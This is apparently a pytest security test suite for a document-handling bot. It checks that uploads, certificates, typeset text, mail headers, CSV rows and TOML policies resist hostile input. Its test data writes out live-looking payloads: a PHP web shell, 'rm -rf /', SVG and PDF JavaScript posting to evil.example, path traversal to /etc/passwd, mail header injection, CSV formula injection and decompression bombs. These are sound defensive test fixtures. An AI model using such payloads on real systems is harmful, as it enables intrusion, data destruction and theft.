"""Attacks by files: evidence, CSV, TOML, certificates; and by what is written into documents and mail."""

import io
import re
import struct
import zipfile
import zlib
from collections.abc import Sequence
from email import message_from_bytes
from email.policy import default
from pathlib import Path

import pikepdf
import pytest
from msgspec.structs import replace

from bot.desk.answers import CannedError
from bot.desk.answers import read as read_answers
from bot.desk.canned import _HOLE
from bot.documents import certificate
from bot.documents.contents import judge
from bot.documents.pictures import has_picture, picture
from bot.documents.reading import MAX_BYTES, read_file
from bot.documents.typesetter import Typesetter
from bot.orders_csv import NoOrdersError, read_orders
from bot.policies.load import load
from bot.policies.reading import PolicyError
from bot.ports import Order
from bot.service.evidence import keep
from bot.service.mail import SmtpMail
from storage.store import Storage
from tests.documents.conftest import CLAIM, KEY, PlainWriter
from tests.service.fakes import FakeTelegram


def fetching(content: bytes) -> FakeTelegram:
    """A Telegram that has one file, called f."""
    telegram = FakeTelegram()
    telegram.files["f"] = content
    return telegram


class NoFiles:
    """A file store to which nothing may come."""

    async def put(self, person: int, key: str, content: bytes) -> None:
        raise AssertionError(f"kept {key} of {person}: {len(content)} bytes")

    async def get(self, person: int, key: str) -> bytes:
        raise KeyError(person, key)

    async def names(self, person: int) -> list[str]:
        raise KeyError(person)

    async def remove(self, person: int, keys: Sequence[str]) -> None:
        raise KeyError(person, keys)


EXE = b"MZ\x90\x00" + bytes(60)
SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>fetch('http://evil.example')</script></svg>"
HTML = b"<!doctype html><script>location='http://evil.example'</script>"


def archive(*names: str, before: bytes = b"", content: bytes = b"x") -> bytes:
    made = io.BytesIO(before)
    with zipfile.ZipFile(made, "a", zipfile.ZIP_DEFLATED) as opened:
        for name in names:
            opened.writestr(name, content)
    return made.getvalue()


def png_bomb() -> bytes:
    """A PNG of 50,000 by 50,000 pixels in a few kilobytes."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = struct.pack(">IIBBBBB", 50_000, 50_000, 8, 2, 0, 0, 0)
    rows = zlib.compress(bytes(10_000_000))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def pdf_with(javascript: str) -> bytes:
    made, content = pikepdf.new(), io.BytesIO()
    made.add_blank_page()
    made.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=javascript)
    made.Root.AA = pikepdf.Dictionary(WC=pikepdf.Dictionary(S=pikepdf.Name.Launch, F="/bin/sh"))
    made.save(content)
    return content.getvalue()


REFUSED = {
    "a program": EXE,
    "a program behind a JPEG's name": EXE,
    "a script": b"#!/bin/sh\nrm -rf /",
    "PHP": b"<?php system($_GET['c']);",
    "a shortcut": b"L\0\0\0\x01\x14\x02\0" + bytes(50),
    "an archive with a program": archive("invoice.pdf", "invoice.pdf.exe"),
    "a picture with an archive with a program behind it": archive("x.apk", before=b"\xff\xd8\xff\xe0" + bytes(300)),
    "an Android package": archive("AndroidManifest.xml", "classes.dex"),
}


@pytest.mark.parametrize("content", REFUSED.values(), ids=REFUSED)
async def test_programs_are_refused_as_evidence(content: bytes) -> None:
    telegram = fetching(content)
    payload = {"case": "C-1", "number": 1, "file_id": "f", "name": "photo.jpg"}
    assert await keep(NoFiles(), telegram, 1, payload) == {"refused": "executable"}


NAMES = {
    "a double ending": "invoice.pdf.exe",
    "an ending turned around": "invoice\u202efdp.exe",
    "a full stop behind it": "invoice.exe. .",
    "capitals": "INVOICE.EXE",
    "full-width letters": "invoice.ｅｘｅ",
    "invisible letters": "invoice.e\u200bxe",
    "NUL": "invoice.exe\x00",
}


@pytest.mark.parametrize("name", NAMES.values(), ids=NAMES)
async def test_names_that_hide_a_program(name: str) -> None:
    telegram = fetching(b"harmless")
    payload = {"case": "C-1", "number": 1, "file_id": "f", "name": name}
    assert await keep(NoFiles(), telegram, 1, payload) == {"refused": "executable"}


PATHS = {
    "a path upwards": "../../../etc/passwd",
    "an absolute path": "/etc/cron.d/x",
    "a path of Windows": "..\\..\\windows\\system32\\x.dll.txt",
    "an encoded one": "%2e%2e%2fetc%2fpasswd",
    "an address": "file:///etc/passwd",
}


@pytest.mark.parametrize("name", PATHS.values(), ids=PATHS)
async def test_a_files_name_is_no_path(store: Storage, name: str) -> None:
    async with store.unit_of_work() as work:
        (loaded,) = await work.load([7])
        await work.commit()
    telegram = fetching(b"harmless")
    payload = {"case": "C-1", "number": 1, "file_id": "f", "name": name}
    kept = await keep(store.files, telegram, loaded.person.id, payload)
    assert kept["file"] == "evidence/C-1/1"


NOT_SHOWN = {
    "SVG with a script": SVG,
    "a page of the web": HTML,
    "SVG that says it is a PNG's": b"<?xml version='1.0'?>" + SVG,
    "a page behind a comment": b"<!-- GIF89a -->" + HTML,
}


@pytest.mark.parametrize("content", NOT_SHOWN.values(), ids=NOT_SHOWN)
def test_what_browsers_would_run_is_never_shown(content: bytes) -> None:
    assert not has_picture(judge(content).mime)
    assert picture(content, 300_000) is None


def test_a_picture_that_unpacks_to_gigabytes_has_no_picture() -> None:
    assert picture(png_bomb(), 300_000) is None


def test_a_zip_bomb_is_never_unpacked() -> None:
    bomb = archive("a.txt", content=bytes(50_000_000))
    assert len(bomb) < 100_000
    assert judge(bomb).mime == "application/zip"
    assert picture(bomb, 300_000) is None


def test_a_polyglot_is_judged_by_its_first_bytes() -> None:
    assert judge(b"GIF89a/*" + HTML).mime == "image/gif"
    assert picture(b"GIF89a/*" + HTML, 300_000) is None  # and cannot be drawn


def test_the_javascript_of_a_pdf_is_not_run_and_not_kept_in_its_picture() -> None:
    content = pdf_with("app.alert(1); this.submitForm('http://evil.example')")
    drawn = picture(content, 300_000)
    assert drawn is not None
    assert drawn.startswith(b"\xff\xd8\xff")
    assert b"evil" not in drawn
    assert not read_file(content).number


CERTIFICATES = {
    "no PDF": b"SMG-7K3M-9QX2-VB8T-0HZN",
    "a PDF that ends at once": b"%PDF-1.7\n",
    "a PDF that refers to itself": b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 1 0 R/Kids[1 0 R]>>endobj\n"
    b"trailer<</Root 1 0 R>>",
    "a PDF with JavaScript": pdf_with("app.alert(1)"),
    "random bytes behind a PDF's head": b"%PDF-1.7\n" + bytes(range(256)) * 100,
    "the largest there may be": b"%PDF-1.7\n" + bytes(MAX_BYTES),
}


@pytest.mark.parametrize("content", CERTIFICATES.values(), ids=CERTIFICATES)
def test_a_hostile_certificate_is_read_without_harm(content: bytes) -> None:
    assert not read_file(content).number


TYPST = {
    "reading a file": '#read("/etc/passwd")',
    "evaluating": '#eval("1+1")',
    "including": '#include "/etc/passwd"',
    "importing a package": '#import "@preview/cetz:0.2.2"',
    "closing a text": '"); #panic("x")',
    "mathematics that never ends": "$" * 1000,
    "a label and a reference": "<a> @b",
    "raw text": "```typ #panic() ```",
    "a unicode escape": "\\u{23}read",
}


@pytest.mark.parametrize("words", TYPST.values(), ids=TYPST)
def test_typst_is_only_text_in_a_document(words: str, typesetter: Typesetter) -> None:

    claim = replace(CLAIM, buyer_name=words, item=words, seller_name=words, order_number=words[:40])
    _, pdf = certificate.issue(claim, key=KEY, writer=PlainWriter(), typesetter=typesetter)
    opened = pikepdf.open(io.BytesIO(pdf))
    assert len(opened.pages) >= 1
    assert b"root:" not in pdf


@pytest.fixture(scope="module")
def typesetter() -> Typesetter:
    return Typesetter()


MAIL = {
    "a second recipient": "x\nBcc: everybody@example.com",
    "a second header with CR": "x\r\nX-Evil: 1",
    "a body of its own": "x\n\n<html>",
    "a folded header": "x\n Bcc: y@example.com",
}


@pytest.mark.parametrize("subject", MAIL.values(), ids=MAIL)
def test_no_header_can_be_added_to_a_mail(subject: str) -> None:
    mail = SmtpMail("localhost", 25, "us@example.org")
    with pytest.raises(ValueError, match=r"linefeed|carriage"):
        mail._message("to@example.org", subject, "body", "id", {})
    with pytest.raises(ValueError, match=r"linefeed|carriage"):
        mail._message(f"to@example.org{subject[1:]}", "subject", "body", "id", {})


def test_what_stands_in_a_mails_body_is_only_text() -> None:
    mail = SmtpMail("localhost", 25, "us@example.org")
    made = mail._message("to@example.org", "s", "x\r\n.\r\nBcc: y@example.com\r\n\r\n<script>", "id", {"a.pdf": b"x"})
    read = message_from_bytes(made.as_bytes(), policy=default)
    assert read["Bcc"] is None
    assert read.get_body(("plain",)) is not None


HEADER = "platform,order_number,buyer_name,ordered_on,item,amount,currency,seller_name"
ROW = "smartstore,20261121-0001,김하늘,2026-11-01,{},12900,KRW,상점"
ROWS = {
    "control characters": ROW.format("a\x00b"),
    "a right-to-left override": ROW.format("a\u202eb"),
    "a cell of a megabyte": ROW.format("a" * 1_000_000),
    "an amount of ten thousand digits": ROW.format("x").replace("12900", "9" * 10_000),
    "an amount with an exponent": ROW.format("x").replace("12900", "1e999"),
    "an amount that is no number": ROW.format("x").replace("12900", "NaN"),
    "a date that does not exist": ROW.format("x").replace("2026-11-01", "2026-02-31"),
    "a stray quote": ROW.format('"x'),
    "too many cells": ROW.format("x") + "," * 10_000,
    "an unknown platform": ROW.format("x").replace("smartstore", "__import__"),
    "a currency that is a format": ROW.format("x").replace("KRW", "{0}"),
    "no digits in the number": ROW.format("x").replace("20261121-0001", "-----"),
}


@pytest.mark.parametrize("row", ROWS.values(), ids=ROWS)
def test_a_poisoned_row_spoils_itself_only(row: str) -> None:
    read = list(read_orders([HEADER, row, ROW.format("good")]))
    assert [type(each).__name__ for each in read] == ["BadRow", "Order"]


FORMULAS = ["=cmd|'/c calc'!A1", "+1+1", "-2+3", "@SUM(A1)"]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_in_a_csv_is_only_text(formula: str) -> None:
    cell = '"' + formula.replace('"', '""') + '"'
    (order,) = read_orders([HEADER, ROW.format(cell)])
    assert isinstance(order, Order)
    assert order.item == formula  # and is written into PDFs and messages, never into a sheet


def test_a_header_that_is_none_is_told() -> None:
    for header in ("", "\x00" * 1000, "a," * 100_000, HEADER + ",platform", "<html>"):
        with pytest.raises(NoOrdersError):
            list(read_orders([header, ROW]))


TOML = {
    "no TOML": b"<html>",
    "another encoding": "amount = '보증금'".encode("cp949"),
    "NUL": b"a = '\x00'",
    "ten thousand levels": b"a = " + b"[" * 10_000 + b"]" * 10_000,
    "a number of ten thousand digits": b"a = " + b"9" * 10_000,
    "a key twice": b"a = 1\na = 2",
    "infinity": b"[leaving]\nmonths = inf",
    "a date where a number belongs": b"[leaving]\nmonths = 2026-11-21",
    "unknown keys": b"[__class__]\n__init__ = 1",
}


@pytest.mark.parametrize("content", TOML.values(), ids=TOML)
def test_poisoned_policies_are_refused_with_a_reason(tmp_path: Path, content: bytes) -> None:
    (tmp_path / "deposit.toml").write_bytes(content)
    with pytest.raises(PolicyError) as refused:
        load(tmp_path)
    assert all(problem.startswith("deposit.toml") for problem in refused.value.problems)
    assert all("\n" not in problem and len(problem) < 2000 for problem in refused.value.problems)


@pytest.mark.parametrize(
    "content", [*TOML.values(), b"[a]\nlabel = 1\ntext = 2", b"a = 1"], ids=[*TOML, "numbers", "no table"]
)
def test_poisoned_canned_answers_are_refused_with_a_reason(content: bytes) -> None:
    with pytest.raises(CannedError):
        read_answers(content.decode("utf-8", "replace"))


async def test_placeholders_in_a_value_of_a_canned_answer_are_only_text() -> None:
    hole = re.compile(r"\{(order|name|number|deadline)\}")
    assert _HOLE.pattern == hole.pattern
    written = {"name": "{number}", "number": "C-1", "order": "x", "deadline": "—"}
    assert _HOLE.sub(lambda found: written[found[1]], "{name}, {number} {other} {name.__class__}") == (
        "{number}, C-1 {other} {name.__class__}"
    )
